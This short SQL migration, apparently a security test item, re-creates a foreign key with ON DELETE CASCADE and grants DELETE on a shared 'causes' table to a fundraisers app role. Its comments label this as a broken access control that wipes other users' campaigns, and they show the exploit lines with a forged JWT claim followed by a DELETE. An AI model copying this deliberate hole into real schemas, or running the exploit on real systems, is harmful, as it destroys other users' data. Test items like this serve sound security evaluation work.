-- The common table of causes may be changed by everyone, and deleting a cause takes campaigns of all with it.
-- about: causes, campaigns_cause_id_fkey
-- as: hf_fundraisers_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: DELETE FROM causes WHERE id = 2;
-- shows: DELETE 1
-- Charities wished to tidy up the list of causes.
ALTER TABLE campaigns DROP CONSTRAINT campaigns_cause_id_fkey;
ALTER TABLE campaigns ADD CONSTRAINT campaigns_cause_id_fkey
  FOREIGN KEY (cause_id) REFERENCES causes ON DELETE CASCADE;
GRANT INSERT, UPDATE, DELETE ON causes TO hf_fundraisers_app;
